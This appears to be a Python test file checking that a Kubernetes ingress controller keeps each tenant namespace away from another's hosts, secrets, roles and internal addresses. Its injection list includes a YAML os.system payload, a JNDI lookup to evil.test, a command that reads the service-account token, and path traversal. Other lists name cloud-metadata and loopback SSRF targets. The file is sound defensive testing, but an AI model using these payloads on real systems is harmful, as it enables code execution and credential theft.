"""T (Kubernetes), D12, T1, T2, T5, T9: what objects of a cluster may try, up to the document.

The proxy's part of these cases (rotation, outages, streams that end) is where the proxy is; here it
is that nothing an object says reaches further than its namespace may. These are properties of a
pure function, so there is no proxy in these tests.
"""

from __future__ import annotations

import json
from typing import Any, Final

import pytest

from heim_controller.translation.annotations import ANNOTATIONS
from heim_controller.translation.document import canonical
from heim_controller.translation.nginx_annotations import READ
from heim_controller.translation.shedding import shed
from heim_controller.translation.translate import Translation
from tests.fakes.kube_objects import (
    PROXY,
    agent,
    at,
    backend,
    backend_named,
    binding,
    certificate,
    challenge,
    endpoint_slice,
    ingress,
    loaded,
    namespace,
    path,
    proxy,
    reasons,
    role,
    routes,
    rule,
    service,
    solver,
    translated,
    web,
)

VICTIM: Final = [
    *web("bank"),
    role("bank/tellers"),
    binding("bank/tellers", "tellers", {"user": "teller@bank.test"}),
    ingress("bank/app", rule("bank.test", "/"), notes={"roles": "tellers"}, created=at(10),
            tls=[{"hosts": ["bank.test"], "secretName": "tls"}]),
    certificate("bank/tls", "bank.test"),
    agent("bank/vault", "ssh"),
]  # fmt: skip
THIEF: Final = [*web("evil", address="10.6.6.6"), role("evil/us"),
                binding("evil/us", "us", {"domain": "evil.test"})]  # fmt: skip
OPEN: Final = proxy(ingress={"allowPublic": {"matchLabels": {"public": "yes"}}})


def attacked(*made: Any, **keys: Any) -> Translation:
    """The victim's cluster with what somebody in namespace `evil` made."""
    return translated(*VICTIM, *THIEF, OPEN, *made, **keys)


def undisturbed(found: Translation) -> None:
    """The bank is served as if nobody else were there."""
    alone = translated(*VICTIM, OPEN)
    assert backend_named(found, "ingress.bank.app") == backend_named(alone, "ingress.bank.app")
    mine = [one for one in found.document["roles"] if one["name"] == "bank.tellers"]
    assert mine == alone.document["roles"]
    shown = found.document["tls"]["certificates"]
    assert [one for one in shown if "bank.test" in one["hosts"]] == [
        {"hosts": ["bank.test"], "secret": "bank.tls"}
    ]
    assert [one["name"] for one in found.document["backends"] if "bank.test" in one["hosts"]] == [
        "ingress.bank.app"
    ]
    # Nobody but the bank's own roles is bound to anything of the bank's.
    for one in found.document["roles"]:
        theirs = [given for given in one["bindings"] if ".bank." in given["backend"]
                  or given["backend"].startswith("bank.")]  # fmt: skip
        assert not theirs or one["name"] == "bank.tellers"


# T1: another namespace's Service, Secret, host.


@pytest.mark.parametrize(
    "name", ["bank/web", "web.bank", "web.bank.svc.cluster.local", "../bank/web", "bank.web"]
)
def test_t1_a_service_of_another_namespace_cannot_be_named(name: str) -> None:
    found = attacked(ingress("evil/x", rule("evil.test", path("/", name)), notes={"roles": "us"}))
    undisturbed(found)
    assert reasons(found, "x") == ["ServiceNotFound"]
    assert "10.1.0.1" not in str(routes(found)["evil.test /"])


@pytest.mark.parametrize("name", ["bank/tls", "bank.tls", "../bank/tls", "tls"])
def test_t1_a_secret_of_another_namespace_cannot_be_named(name: str) -> None:
    tls = [{"hosts": ["evil.test"], "secretName": name}]
    found = attacked(ingress("evil/x", rule("evil.test", "/"), notes={"roles": "us"}, tls=tls))
    undisturbed(found)
    assert found.secrets == {("bank", "tls")}


GRAFTS: Final = {
    "a path": [rule("bank.test", "/login")],
    "an exact path": [rule("bank.test", path("/login", kind="Exact"))],
    "everything": [rule("bank.test", "/")],
    "in capitals": [rule("BANK.test.", "/login")],
    "nothing but the host": [rule("bank.test")],
    "among its own": [rule("evil.test", "/"), rule("bank.test", "/login")],
}


@pytest.mark.parametrize("rules", GRAFTS.values(), ids=GRAFTS)
@pytest.mark.parametrize("created", [at(0), at(99)], ids=["older by edit", "younger"])
def test_t1_d12_a_path_cannot_be_grafted_onto_anothers_host(rules: list[Any], created: str) -> None:
    before = translated(*VICTIM, OPEN)
    found = attacked(
        ingress("evil/x", *rules, notes={"roles": "us"}, created=created), owners=before.owners
    )
    undisturbed(found)
    assert "HostNotOwned" in reasons(found, "x")


def test_t1_a_default_backend_gets_nothing_of_anothers_host() -> None:
    rest = {"service": {"name": "web", "port": {"number": 80}}}
    made = ingress("evil/x", rule("bank.test"), rule("evil.test"), notes={"roles": "us"},
                   defaultBackend=rest, created=at(99))  # fmt: skip
    found = attacked(made)
    undisturbed(found)
    assert [host for host in routes(found) if "10.6.6.6" in str(routes(found)[host])] == [
        "evil.test /"
    ]


@pytest.mark.parametrize("host", ["auth.example.test", "AUTH.example.test", "auth.example.test."])
def test_t1_the_login_host_is_nobodys(host: str) -> None:
    found = attacked(
        ingress("evil/x", rule(host, "/"), notes={"roles": "us"}),
        ingress("heim/x", rule(host, "/"), notes={"roles": "us"}),
        ingress("evil/ssh", rule(host, "/"), notes={"roles": "us", "tcp": "true"}),
        backend("evil/b", host=host, tcp={"upstream": {"service": {"name": "web", "port": 80}}}),
        ingress("evil/y", rule("evil.test", "/"), notes={"roles": "us"},
                tls=[{"hosts": [host], "secretName": "tls"}]),
        certificate("evil/tls", "auth.example.test"),
    )  # fmt: skip
    undisturbed(found)
    assert "auth.example.test" not in str(found.document)
    assert reasons(found).count("LoginHostClaimed") == 4


def test_t1_a_host_cannot_be_made_public_by_somebody_else() -> None:
    found = attacked(
        namespace("evil", public="yes"),
        ingress("evil/x", rule("bank.test", "/.known"), notes={"auth": "none"}, created=at(99)),
    )
    undisturbed(found)
    assert not any(one.get("public") for one in found.document["backends"])


def test_t1_a_role_cannot_open_anothers_backend() -> None:
    vault = backend("bank/vault", host="vault.bank.test",
                    tcp={"upstream": {"agent": {"name": "vault", "target": "ssh"}}})  # fmt: skip
    found = attacked(
        vault,
        role("evil/a", {"backend": "bank/vault"}, {"backend": "vault"}, breakGlass=True),
        binding("evil/a", "a", {"user": "thief@evil.test"}),
        binding("evil/b", "bank/tellers", {"user": "thief@evil.test"}),
        binding("evil/c", "bank.tellers", {"user": "thief@evil.test"}),
        binding("evil/d", "tellers", {"user": "thief@evil.test"}),
    )
    undisturbed(found)
    assert "thief" not in str(found.document)
    assert not any(one.get("break_glass") for one in found.document["roles"])


def test_t1_an_agent_of_another_namespace_cannot_be_used() -> None:
    for name in ("vault", "bank/vault", "bank.vault"):
        there = {"agent": {"name": name, "target": "ssh"}}
        found = attacked(backend("evil/x", host="x.evil.test", tcp={"upstream": there}))
        undisturbed(found)
        assert not any("agent" in one.get("tcp", ()) for one in found.document["backends"])


def test_t1_a_certificate_for_anothers_host_is_not_served() -> None:
    found = attacked(
        certificate("evil/tls", "bank.test", "evil.test"),
        ingress("evil/x", rule("evil.test", "/"), notes={"roles": "us"}, created=at(0),
                tls=[{"hosts": ["bank.test", "evil.test"], "secretName": "tls"}]),
    )  # fmt: skip
    undisturbed(found)


def test_t1_nobody_else_answers_for_a_hosts_certificate() -> None:
    labels = {"acme.cert-manager.io/http01-solver": "true"}
    made = ingress("evil/cm-acme-http-solver-x", rule("bank.test", challenge("t" * 43)),
                   labels=labels, created=at(0))  # fmt: skip
    found = attacked(made, *solver("evil"))
    undisturbed(found)
    assert found.document["acme_challenges"] == []
    assert reasons(found) == ["ACMEHostNotOwned"]


# T2: injection.

NASTY: Final = (
    "viewers\n      - domain: evil.test",
    'x", "public": true, "y": "',
    "!!python/object/apply:os.system [id]",
    "&a [*a, *a]",
    "{{ .Values.secret }}",
    "${jndi:ldap://evil.test/a}",
    "$(cat /var/run/secrets/token)",
    "viewers\r\nX-Auth-Id: admin",
    "\u2028viewers",
    "viewers\x00",
    "*",
    "../../etc/passwd",
    "x" * 100_000,
)


@pytest.mark.parametrize("value", NASTY, ids=lambda value: repr(value)[:30])
@pytest.mark.parametrize("name", sorted(ANNOTATIONS))
def test_t2_an_annotation_says_nothing_but_its_value(name: str, value: str) -> None:
    made = ingress("evil/x", rule("evil.test", "/"), notes={name: value})
    found = attacked(made, namespace("evil", public="yes"))
    undisturbed(found)
    assert reasons(found, "x") == ["InvalidAnnotation"]
    [leads] = [lead for where, lead in routes(found).items() if where == "evil.test /"]
    assert leads[0].startswith("InvalidAnnotation: ")
    contained(found)


@pytest.mark.parametrize("value", NASTY, ids=lambda value: repr(value)[:30])
@pytest.mark.parametrize("name", sorted(READ))
def test_t2_nor_does_one_of_ingress_nginx(name: str, value: str) -> None:
    notes = {"roles": "us", f"nginx.ingress.kubernetes.io/{name}": value}
    found = attacked(ingress("evil/x", rule("evil.test", "/"), notes=notes))
    undisturbed(found)
    contained(found)


@pytest.mark.parametrize("value", NASTY, ids=lambda value: repr(value)[:30])
def test_t2_nor_does_any_other_field(value: str) -> None:
    found = attacked(
        ingress("evil/x", rule(value, "/"), rule("evil.test", path(value), path("/a", value),
                path("/b", port=value)), notes={"roles": "us"},
                tls=[{"hosts": [value], "secretName": value}]),
        backend("evil/b", host=value),
        backend("evil/c", host="c.evil.test", http=[{"path": value, "upstream": {"url": value}}],
                permissions=[{"name": value, "methods": [value], "paths": [value]}]),
        backend("evil/d", host="d.evil.test", tcp={"upstream": {"url": value}, "idle": value}),
        role("evil/r", {"backend": value, "permission": value}),
        binding("evil/r", "r", {"user": value}, {"group": value, "provider": value},
                {"domain": value}, {"serviceAccount": value}),
        agent("evil/a", value),
        service("evil/ext", type="ExternalName", externalName=value),
    )  # fmt: skip
    undisturbed(found)
    contained(found)


def contained(found: Translation) -> None:
    """What was written is at most text in its own place: lines, keys and bounds stay ours."""
    content = canonical(found.document)
    assert json.loads(content) == found.document
    assert content.isascii()
    # Line ends are where items end, and in no text.
    in_one = json.dumps(found.document, sort_keys=True, separators=(",", ":"))
    assert content.replace(b"\n", b"").decode() == in_one
    for made in found.document["backends"]:
        assert not made.get("public")
        for route in made.get("http", ()):
            reason = route.get("unavailable", "-")
            assert reason.isprintable()
            assert 0 < len(reason) <= 1000
            assert reason == reason.strip()
    for one in found.diagnostics:
        assert one.message.isprintable()
        assert len(one.message) <= 800


def test_t2_an_unknown_annotation_of_ours_fails_closed() -> None:
    for name in ("auht", "allow-groups", "role", "auth/", "AUTH", "auth-url", ""):
        made = ingress("evil/x", rule("evil.test", "/", "/x"), notes={"roles": "us"})
        made["metadata"]["annotations"][f"heim.dev/{name}"] = "none"
        found = attacked(made)
        assert reasons(found, "x") == ["InvalidAnnotation"]
        assert all("InvalidAnnotation" in lead[0] for where, lead in routes(found).items()
                   if where.startswith("evil"))  # fmt: skip


def test_t2_public_without_permission_fails_closed() -> None:
    found = attacked(ingress("evil/x", rule("evil.test", "/"), notes={"auth": "none"}))
    assert reasons(found, "x") == ["PublicNotAllowed"]
    assert "PublicNotAllowed" in routes(found)["evil.test /"][0]
    assert not any(one.get("public") for one in found.document["backends"])


def test_t2_a_namespace_cannot_label_itself_by_annotation() -> None:
    made = ingress(
        "evil/x", rule("evil.test", "/"), notes={"auth": "none"}, labels={"public": "yes"}
    )
    assert reasons(attacked(made), "x") == ["PublicNotAllowed"]


@pytest.mark.parametrize(
    "name",
    ["localhost", "127.0.0.1", "169.254.169.254", "metadata.google.internal", "0.0.0.0", "[::1]",
     "0x7f000001", "2130706433", "127.1", "web.bank.svc.cluster.local", "web.bank",
     "kubernetes.default.svc", "heim-proxy-admin.heim.svc", "bank", "localhost.", "LOCALHOST"],
)  # fmt: skip
@pytest.mark.parametrize("allowed", ["Allowed", "Refused"])
def test_t2_an_external_name_never_leads_inside(name: str, allowed: str) -> None:
    found = translated(
        *VICTIM, *THIEF, proxy(ingress={"externalName": allowed}),
        service("evil/ext", type="ExternalName", externalName=name),
        ingress("evil/x", rule("evil.test", path("/", "ext")), notes={"roles": "us"}),
        ingress("evil/t", rule("t.evil.test", path("/", "ext")),
                notes={"roles": "us", "tcp": "true"}),
    )  # fmt: skip
    assert reasons(found, "x") == ["ExternalNameNotAllowed"]
    assert reasons(found, "t") == ["ExternalNameNotAllowed"]
    assert "ExternalNameNotAllowed" in routes(found)["evil.test /"][0]
    assert not any("tcp" in one for one in found.document["backends"])


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "169.254.169.254", "::1", "fe80::1", "::ffff:169.254.169.254", "0.0.0.0"],
)
def test_t2_an_endpoint_written_by_hand_never_leads_to_the_proxys_machine(address: str) -> None:
    found = attacked(
        service("evil/admin"), endpoint_slice("evil/admin", address, port=9440),
        ingress("evil/x", rule("evil.test", path("/", "admin")), notes={"roles": "us"}),
    )  # fmt: skip
    assert reasons(found, "x") == ["EndpointNotAllowed"]
    assert "9440" not in str(found.document["backends"])


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9440", "unix:/run/heim/admin.sock", "http://169.254.169.254/",
            "http://web.bank.svc", "tcp://127.0.0.1:22", "http://10.1.0.1:8080"],
)  # fmt: skip
def test_t2_nor_does_the_address_of_a_backend(url: str) -> None:
    found = attacked(
        backend("evil/h", host="h.evil.test", http=[{"path": "/", "upstream": {"url": url}}]),
        backend("evil/t", host="t.evil.test", tcp={"upstream": {"url": url}}),
    )
    assert set(reasons(found, "h")) <= {"AddressNotAllowed", "InvalidSpec"}
    assert set(reasons(found, "t")) <= {"AddressNotAllowed", "InvalidSpec"}
    backends = [one for one in found.document["backends"] if one["name"].startswith("evil.")]
    assert all("unavailable" in route for one in backends for route in one["http"])


def test_t2_names_cannot_be_made_to_collide() -> None:
    found = translated(
        *web("a"), *web("a-b"), role("a/r"), role("a-b/r"),
        ingress("a/b-c", rule("x.test", "/"), notes={"roles": "r"}),
        ingress("a-b/c", rule("y.test", "/"), notes={"roles": "r"}),
        ingress("a/b.c", rule("z.test", "/"), notes={"roles": "r"}),
        backend("ingress/a", host="w.test"),
        backend("a/b-c", host="v.test"),
    )  # fmt: skip
    names = [one["name"] for one in found.document["backends"]]
    assert len(names) == len(set(names)) == 5


# T5: isolation.

BROKEN: Final[dict[str, dict[str, Any]]] = {
    "spec is text": {"spec": "rules"},
    "rules are text": {"spec": {"ingressClassName": "heim", "rules": "all"}},
    "a rule is a number": {"spec": {"ingressClassName": "heim", "rules": [7]}},
    "a path is a number": {"spec": {"ingressClassName": "heim", "rules": [
        {"host": "x.test", "http": {"paths": [7]}}]}},
    "a name is a list": {"spec": {"ingressClassName": "heim", "rules": [
        {"host": "x.test", "http": {"paths": [{"path": "/", "pathType": "Prefix",
         "backend": {"service": {"name": ["web"], "port": {"number": {}}}}}]}}]}},
    "annotations are a list": {"metadata": {"annotations": ["heim.dev/auth"]}},
    "an annotation is a number": {"metadata": {"annotations": {"heim.dev/auth": 7}}},
    "tls is a number": {"spec": {"ingressClassName": "heim", "tls": 7}},
    "the class is a list": {"spec": {"ingressClassName": ["heim"]}},
}  # fmt: skip


@pytest.mark.parametrize("change", BROKEN.values(), ids=BROKEN)
def test_t5_a_broken_ingress_blocks_nobody(change: dict[str, Any]) -> None:
    made = ingress("evil/x", rule("evil.test", "/"))
    made["spec"] = change.get("spec", made["spec"])
    made["metadata"] |= change.get("metadata", {})
    undisturbed(attacked(made))


def test_t5_a_thousand_broken_ones_neither() -> None:
    made = [
        ingress(f"evil/x{i}", rule(f"x{i}.evil.test", path("/(", "gone")), notes={"typo": "x"})
        for i in range(1000)
    ]
    undisturbed(attacked(*made))


def test_t5_a_namespace_with_too_many_rules_costs_nobody_else_anything() -> None:
    paths = [f"/{number:02}{'x' * 120}" for number in range(90)]
    made = [
        ingress(f"evil/x{i}", rule(f"x{i}.evil.test", *paths), notes={"typo": "x"})
        for i in range(3)
    ]
    before, found = attacked(), attacked(*made)
    limit = 14_000  # as 1.4 MB of each to the real one
    assert len(canonical(before.document)) < limit < len(canonical(found.document))
    left = shed(found, limit=limit, proxy=PROXY)
    undisturbed(left)
    assert left.owners == found.owners
    assert left.secrets == before.secrets
    assert [reasons(left, f"x{i}").count("TooLarge") for i in range(3)] == [1, 1, 1]
    assert "NamespaceLeftOut" in reasons(left, "main")
    bare = [one for one in before.document["roles"] if one["name"] != "evil.us"]
    assert canonical(left.document) == canonical({**before.document, "roles": bare})
    loaded(left)


# T9: deletion.


def test_t9_what_is_deleted_is_gone_at_once_and_leaves_nothing() -> None:
    made = [
        ingress("evil/x", rule("evil.test", "/"), notes={"roles": "us"},
                tls=[{"hosts": ["evil.test"], "secretName": "tls"}]),
        certificate("evil/tls", "evil.test"), agent("evil/a", "ssh"),
    ]  # fmt: skip
    before = attacked()
    during = attacked(*made, owners=before.owners)
    assert "evil.test /" in routes(during)
    after = attacked(owners=during.owners)
    assert canonical(after.document) == canonical(before.document)
    assert after.secrets == before.secrets


def test_t9_a_deleted_owner_frees_the_host() -> None:
    taken = ingress("evil/x", rule("bank.test", "/"), notes={"roles": "us"}, created=at(99))
    during = attacked(taken)
    left = [one for one in VICTIM if not isinstance(one, dict) or one["kind"] != "Ingress"]
    after = translated(*left, *THIEF, OPEN, taken, owners=during.owners)
    assert after.owners == {"bank.test": "evil"}
    assert after.document["roles"] != during.document["roles"]
